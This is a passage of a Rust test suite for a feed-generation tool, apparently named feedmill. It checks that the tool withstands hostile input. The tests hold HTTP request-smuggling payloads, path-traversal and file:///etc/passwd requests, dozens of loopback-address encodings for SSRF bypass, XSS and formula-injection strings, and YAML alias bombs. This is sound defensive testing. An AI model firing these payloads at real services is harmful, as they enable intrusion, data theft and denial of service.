                "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{smuggled}"
            ),
        ),
        (
            "a negative chunk",
            format!("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n{smuggled}"),
        ),
        ("a bare carriage return", format!("GET / HTTP/1.1\r\nHost: a\rX: y\r\n\r\n{smuggled}")),
        ("a zero in a header", format!("GET / HTTP/1.1\r\nHost: a\0b\r\n\r\n{smuggled}")),
        ("a zero in the line", format!("GET /\0 HTTP/1.1\r\nHost: a\r\n\r\n{smuggled}")),
        ("an escape in the line", format!("GET /\u{1b}[2J HTTP/1.1\r\nHost: a\r\n\r\n{smuggled}")),
        ("HTTP/0.9", format!("GET /\r\n\r\n{smuggled}")),
        ("HTTP/9.9", format!("GET / HTTP/9.9\r\nHost: a\r\n\r\n{smuggled}")),
        ("HTTP/2", format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{smuggled}")),
        ("TLS", "\u{16}\u{3}\u{1}\0\u{1}\u{1}\0".to_owned()),
    ];
    for (what, request) in &requests {
        let answer = raw(&served, request.as_bytes());
        assert!(answer.matches("HTTP/1.1 ").count() <= 1, "{what}: {answer}");
        assert!(!answer.starts_with("HTTP/1.1 2"), "{what}: {answer}");
    }
    let forms = [
        "http://evil.example/../secret",
        "http://a/%2e%2e/secret",
        "file:///etc/passwd",
        "http://a//etc/passwd",
        "*",
    ];
    for form in forms {
        let answer =
            raw(&served, format!("GET {form} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n").as_bytes());
        assert!(answer.starts_with("HTTP/1.1 4"), "{form}: {answer}");
    }
    assert_eq!(served.get("/healthz").0, 200, "it stands");
    told::row("Headers and requests", "", keys.len() + addresses.len() + 2 + requests.len() + forms.len());
}

#[test]
fn no_way_of_writing_a_private_address_is_asked() {
    let listeners: Vec<TcpListener> =
        ["127.0.0.1:0", "[::1]:0"].iter().filter_map(|a| TcpListener::bind(a).ok()).collect();
    let hosts = [
        "127.0.0.1",
        "localhost",
        "LOCALHOST",
        "localhost.",
        "a.localhost",
        "127.1",
        "127.0.1",
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "0177.0.0.1",
        "017700000001",
        "0",
        "0.0.0.0",
        "[::1]",
        "[::]",
        "[0:0:0:0:0:0:0:1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
        "[64:ff9b::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[64:ff9b:1::127.0.0.1]",
        "[2002:7f00:1::]",
        "①②⑦.⓪.⓪.①",
        "127。0。0。1",
        "127.0.0.1.",
        "user@127.0.0.1",
        "public.example@127.0.0.1",
        "127.0.0.1%2f",
        "%31%32%37.0.0.1",
    ];
    let mill = Mill::new();
    let mut number = 0;
    for listener in &listeners {
        let port = listener.local_addr().unwrap().port();
        for host in hosts {
            let body = format!(
                "<p>x</p><audio controls src=\"http://{host}:{port}/a.mp3\"></audio><img src=\"http://{host}:{port}/b.jpg\">"
            );
            mill.seed(&format!("{number}.txt"), MAY, "t", &format!("https://news.example/{number}"), &body);
            number += 1;
        }
    }
    mill.put("feedmill.toml", "base_url = 'https://news.example/'\nlimit = 0\nprobe = true\n");
    let (code, _, stderr) = mill.run(&[]);
    assert_eq!(code, 0, "{stderr}");
    assert!(mill.read("feeds/rss.xml").matches("/a.mp3").count() > hosts.len(), "they are media like others");
    for listener in &listeners {
        listener.set_nonblocking(true).unwrap();
        assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "somebody asked");
    }
    told::row("Private addresses", "", hosts.len());
}

#[test]
fn titles_and_names_are_text_in_every_document() {
    let texts = [
        "<script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "]]><script>alert(1)</script><![CDATA[",
        "<![CDATA[<b>x</b>]]>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "&amp;lt;script&amp;gt;",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "-->",
        "<!-- x",
        "<?xml version=\"1.0\"?>",
        "<!DOCTYPE x>",
        "&xxe;",
        "&#x3c;script&#x3e;",
        "{{constructor.constructor('alert(1)')()}}",
        "javascript:alert(1)",
        "\u{2028}</script>",
        "=cmd|' /C calc'!A0",
        "\\u003cscript\\u003e",
        "a\u{0}\u{1}\u{fffe}b",
        "\u{feff}x",
        "+ADw-script+AD4-",
    ];
    let mill = Mill::new();
    for (number, title) in texts.iter().enumerate() {
        let body = format!("<p>{}</p>", title.replace('&', "&amp;").replace('<', "&lt;"));
        let folder = title.replace(['/', '\0', '\u{1}', '.'], "_");
        mill.seed(
            &format!("{folder}/{number}.txt"),
            MAY - number as i64,
            title,
            &format!("https://news.example/{number}"),
            &body,
        );
    }
    let quoted = Value::from(texts[1]).to_string();
    let config = format!(
        "title = {quoted}\ndescription = {quoted}\ncopyright = {quoted}\nauthor = {quoted}\nlimit = 0\nbase_url = 'https://news.example/'\n"
    );
    mill.put("feedmill.toml", config);
    let (code, _, stderr) = mill.run(&["--quiet", "--check"]);
    assert_eq!(code, 0, "{stderr}");
    let (code, stdout, stderr) = mill.run(&["check", "feeds"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    let wanted: Vec<String> = texts
        .iter()
        .map(|t| feedmill::html::xml_text(&feedmill::html::decode_entities_once(t)).replace('\u{2028}', " "))
        .map(|t| t.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect();
    let titles: Vec<_> =
        mill.items("feeds/feed.json").iter().map(|item| text(item, "title").to_owned()).collect();
    assert_eq!(titles, wanted);
    let content = |html: &str| scraper::Html::parse_fragment(html).root_element().text().collect::<String>();
    for (item, wanted) in mill.items("feeds/feed.json").iter().zip(&wanted) {
        assert!(!text(item, "content_html").contains("<script"), "{wanted}");
        assert!(!content(text(item, "content_html")).is_empty());
    }
    for document in ["feeds/rss.xml", "feeds/atom.xml"] {
        let feed = feed_rs::parser::parse(mill.read(document).as_bytes()).unwrap();
        let titles: Vec<_> = feed.entries.iter().map(|e| e.title.as_ref().unwrap().content.clone()).collect();
        assert_eq!(titles, wanted, "{document}");
        assert_eq!(feed.title.unwrap().content, texts[1]);
    }
    let page = mill.read("feeds/index.html");
    let dom = scraper::Html::parse_document(&page);
    for element in dom.root_element().descendent_elements() {
        let value = element.value();
        assert!(["script", "style"].iter().all(|n| value.name() != *n) || element.attr("src").is_none());
        for (key, address) in value.attrs() {
            assert!(!key.starts_with("on"), "{key}={address}");
            let is_address = matches!(key, "href" | "src");
            assert!(
                !is_address || !address.trim().to_ascii_lowercase().starts_with("javascript:"),
                "{address}"
            );
        }
    }
    assert_eq!(dom.select(&scraper::Selector::parse("script").unwrap()).count(), 1, "its own");
    let shown: Vec<_> = dom
        .select(&scraper::Selector::parse("section:first-of-type .entries a").unwrap())
        .map(|a| a.text().collect::<String>())
        .collect();
    assert_eq!(shown, wanted[..5]);
    told::row("Titles and names", "", texts.len());
}

#[test]
fn a_configuration_that_nests_or_repeats_ends_with_a_finding() {
    let many = 20_000;
    let configs: Vec<(&str, String)> = vec![
        ("arrays in arrays", format!("title = {}", "[".repeat(many))),
        ("tables in tables", format!("title = {}", "{a=".repeat(many))),
        ("dotted keys", format!("{} = 1", vec!["a"; many].join("."))),
        ("a dotted table", format!("[{}]\nx = 1", vec!["a"; many].join("."))),
        ("many keys", (0..many).map(|n| format!("a{n} = 1\n")).collect()),
        (
            "many sections",
            (0..many / 4).map(|n| format!("[section.a{n}]\ntitle = 'x'\nlimit = -1\n")).collect(),
        ),
        ("many feeds", (0..many / 40).map(|n| format!("[[feed]]\nname = 'a{n}'\nlimit = -1\n")).collect()),
        ("one key many times", "title = 'x'\n".repeat(many)),
        ("a huge number", format!("limit = {}", "9".repeat(many))),
        ("a huge string", format!("limit = '{}'", "x".repeat(1 << 20))),
        ("an endless string", format!("title = '''{}", "x\n".repeat(many))),
        ("selectors in selectors", format!("[clean]\ndrop = ['{}p']", ":not(".repeat(many))),
        ("blocks in selectors", format!("[clean]\ndrop = ['{}']", "[({".repeat(many))),
        ("a huge selector", format!("[clean]\ndrop = ['{}p[']", "p > ".repeat(many))),
        ("escapes", format!("titel = \"{}\"", "\\u0000".repeat(many))),
        ("no text", "\0".repeat(many)),
    ];
    let mill = Mill::new();
    mill.seed("1.txt", MAY, "t", "https://news.example/1", "x");
    for (what, config) in &configs {
        mill.put("feedmill.toml", config);
        let (code, _, stderr, kib) = watched(&mill, &[]);
        assert_eq!(code, 2, "{what}: {}", &stderr[..stderr.floor_char_boundary(2000)]);
        assert!(stderr.contains("error[config-"), "{what}");
        assert!(kib < MEMORY, "{what}: {kib} KiB");
    }
    // What is right is followed.
    mill.put("feedmill.toml", format!("[clean]\ndrop = ['{}p']", "div > ".repeat(10_000)));
    let (code, _, stderr, kib) = watched(&mill, &[]);
    assert!(code == 0 && kib < MEMORY, "{stderr}");
    told::row("Configuration", "", configs.len() + 1);
}

/// What lies between the lines of front matter, in each syntax, and the text below it.
#[test]
fn front_matter_markdown_and_pages_that_nest_or_repeat_are_read_in_little_memory() {
    // A head has 64 KiB; `few` of anything fit in.
    let (few, many) = (5_000, 20_000);
    let yaml = |matter: &str| format!("---\ntitle: t\n{matter}\n---\ntext\n");
    let toml = |matter: &str| format!("+++\ntitle = 't'\n{matter}\n+++\ntext\n");
    let body = |text: &str| format!("---\ntitle: t\n---\n{text}\n");
    let page = |inside: &str| {
        format!(
            "<!DOCTYPE html><title>t</title><link rel=canonical href=https://page.example/1>\
             <meta property='article:published_time' content='2024-06-01'>{inside}<article><p>text"
        )
    };
    let linked = |json: &str| page(&format!("<script type='application/ld+json'>{json}</script>"));
    let laughs = |item: fn(usize) -> String| -> String {
        (1..12).map(|n| format!("a{n}: &a{n} {}\n", item(n))).collect()
    };
    let lists = laughs(|n| format!("[{}]", vec![format!("*a{}", n - 1); 9].join(", ")));
    let merges = laughs(|n| format!("{{<<: [{}], k{n}: x}}", vec![format!("*a{}", n - 1); 9].join(", ")));
    let tower: String = (0..300).map(|depth| format!("{}a:\n", " ".repeat(depth))).collect();
    let anchors: String = (0..few).map(|n| format!("k{n}: &a{n} x\n")).collect();
    let keys: String = (0..few).map(|n| format!("k{n}: x\n")).collect();
    let definitions: String = (0..many).map(|n| format!("[r{n}]: /x\n")).collect();
    let documents: Vec<(&str, &str, String)> = vec![
        ("aliases of lists", "md", yaml(&format!("a0: &a0 [x, x, x, x, x, x, x, x, x]\n{lists}"))),
        ("merged maps", "md", yaml(&format!("a0: &a0 {{x: x}}\n{merges}"))),
        ("an alias of itself", "md", yaml("tags: &a [*a, *a]")),
        (
            "a text many times",
            "md",
            yaml(&format!("a: &a {}\ntags: [{}]", "x".repeat(few), "*a, ".repeat(few))),
        ),
        ("YAML in brackets", "md", yaml(&format!("a: {}", "[".repeat(many)))),
        ("YAML in braces", "md", yaml(&format!("a: {}", "{a: ".repeat(few)))),
        ("YAML in lists", "md", yaml(&format!("a:\n  {}x", "- ".repeat(many)))),
        ("YAML in questions", "md", yaml(&format!("{}x", "? ".repeat(many)))),
        ("a tower of YAML", "md", yaml(&tower)),
        ("anchors", "md", yaml(&anchors)),
        ("keys", "md", yaml(&keys)),
        ("one key many times", "md", yaml(&"title: t\n".repeat(few))),
        ("an open quote", "md", yaml(&format!("a: \"{}", "x\n\n".repeat(many)))),
        ("tags of YAML", "md", yaml(&format!("a: {}x", "!!x ".repeat(few)))),
        ("a binary of YAML", "md", yaml(&format!("title: !!binary {}", "AAAA".repeat(few)))),
        ("documents in one", "md", yaml(&"--- x\n".repeat(few))),
        ("no end", "md", format!("---\n{}", "a: b\n".repeat(many))),
        ("TOML in brackets", "md", toml(&format!("a = {}", "[".repeat(many)))),
        ("TOML in braces", "md", toml(&format!("a = {}", "{a=".repeat(many)))),
        ("dotted keys", "md", toml(&format!("{} = 1", vec!["a"; many].join(".")))),
        ("tables", "md", toml(&"[[a]]\n".repeat(few))),
        ("JSON in brackets", "md", format!("{{\n\"a\": {}\n}}\ntext\n", "[".repeat(many))),
        ("a number of JSON", "md", format!("{{\n\"date\": {}\n}}\ntext\n", "9".repeat(many))),
        ("a date far away", "md", yaml("date: 99999999999999999999-01-01")),
        ("a permalink of many", "md", yaml(&format!("permalink: {}", "/:title".repeat(few)))),
        ("a permalink out", "md", yaml("permalink: /../../../etc/passwd")),
        ("quotes in quotes", "md", body(&"> ".repeat(many))),
        ("lists in lists", "md", body(&"- ".repeat(many))),
        ("brackets", "md", body(&"[".repeat(many))),
        ("links in links", "md", body(&format!("{}x{}", "[".repeat(many), "](y)".repeat(many)))),
        ("pictures in pictures", "md", body(&format!("{}x{}", "![".repeat(many), "](y)".repeat(many)))),
        ("stars", "md", body(&"*a **b ".repeat(many))),
        ("backticks", "md", body(&(1..400).map(|n| "`".repeat(n) + " ").collect::<String>())),
        ("references", "md", body(&format!("{definitions}{}", "[r1][r2]".repeat(many)))),
        (
            "a long reference many times",
            "md",
            body(&format!("[r]: /{}\n\n{}", "x".repeat(many), "[r] ".repeat(many))),
        ),
        (
            "tables of one row",
            "md",
            body(&format!("{}\n{}\n{}", "|x".repeat(1_000), "|-".repeat(1_000), "|\n".repeat(1_000))),
        ),
        ("footnotes", "md", body(&format!("{}\n\n[^a]: [^a]", "[^a]".repeat(many)))),
        ("open HTML", "md", body(&"<a <!-- ".repeat(many))),
        ("Liquid", "md", body(&"{% raw %}{{ ".repeat(many))),
        ("shortcodes", "md", body(&"{{< figure src=\"".repeat(many))),
        ("linked data in lists", "html", linked(&"[".repeat(many))),
        (
            "linked data in graphs",
            "html",
            linked(&format!("{}1{}", "{\"@graph\":".repeat(100), "}".repeat(100))),
        ),
        (
            "scripts",
            "html",
            page(&"<script type='application/ld+json'>{\"@type\": \"Article\"}</script>".repeat(many)),
        ),
        ("metas", "html", page(&"<meta property='article:published_time' content='x'>".repeat(many))),
        ("articles in articles", "html", page(&"<article>".repeat(many))),
    ];
    let mill = Mill::new();
    mill.put("feedmill.toml", "site_url = 'https://town.example/'\n").seed(
        "good.txt",
        MAY,
        "Good",
        "https://news.example/good",
        "<p>x</p>",
    );
    for (what, extension, document) in &documents {
        let name = format!("seeds/_posts/2024-06-01-a.{extension}");
        mill.put(&name, document);
        let args = ["--no-catalog", "--message-format", "json"];
        let (code, _, stderr, kib) = watched(&mill, &args);
        assert!(code == 0 || code == 2, "{what}: {code} {stderr}");
        assert!(kib < MEMORY, "{what}: {kib} KiB");
        assert!(stderr.len() < 4 << 10, "{what}: {stderr}");
        let items = mill.items("feeds/feed.json");
        assert!(items.iter().any(|i| text(i, "url") == "https://news.example/good"), "{what}");
        fs::remove_file(mill.path(&name)).unwrap();
    }
    told::row("Files of other tools", "", documents.len());
}
